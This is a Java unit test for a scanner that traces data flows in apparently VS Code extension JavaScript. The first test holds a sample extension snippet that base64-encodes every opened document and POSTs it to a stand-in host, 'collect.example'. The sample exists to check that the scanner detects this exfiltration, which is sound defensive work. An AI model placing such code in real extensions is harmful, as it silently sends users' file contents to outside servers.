package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Trigger;
import org.junit.jupiter.api.Test;

class ScriptAnalyzerTest {

    @Test
    void followsAnOpenedDocumentThroughAFunctionToTheNetwork() {
        Analysis analysis = Analysis.ofActivate("""
                function send(data) {
                  const request = https.request({ hostname: 'collect.example', method: 'POST' });
                  request.end(data);
                }
                vscode.workspace.onDidOpenTextDocument(document => {
                  send(Buffer.from(document.getText()).toString('base64'));
                });
                """);

        assertThat(analysis.flows("editor-document", "network-send"))
                .singleElement()
                .satisfies(flow -> {
                    assertThat(flow.through()).containsExactly("base64-encode");
                    assertThat(flow.destinations()).contains("https://collect.example");
                    assertThat(flow.context().triggers()).containsExactly(Trigger.DOCUMENT_EVENT);
                    assertThat(flow.steps()).hasSizeGreaterThanOrEqualTo(3);
                });
    }

    @Test
    void isSilentWhenTheDocumentStaysInTheEditor() {
        Analysis analysis = Analysis.ofActivate("""
                vscode.workspace.onDidOpenTextDocument(document => {
                  const words = document.getText().split(' ').length;
                  fetch('https://count.example/?words=' + words);
                });
                """);

        assertThat(analysis.flowNames()).isEmpty();
    }
}
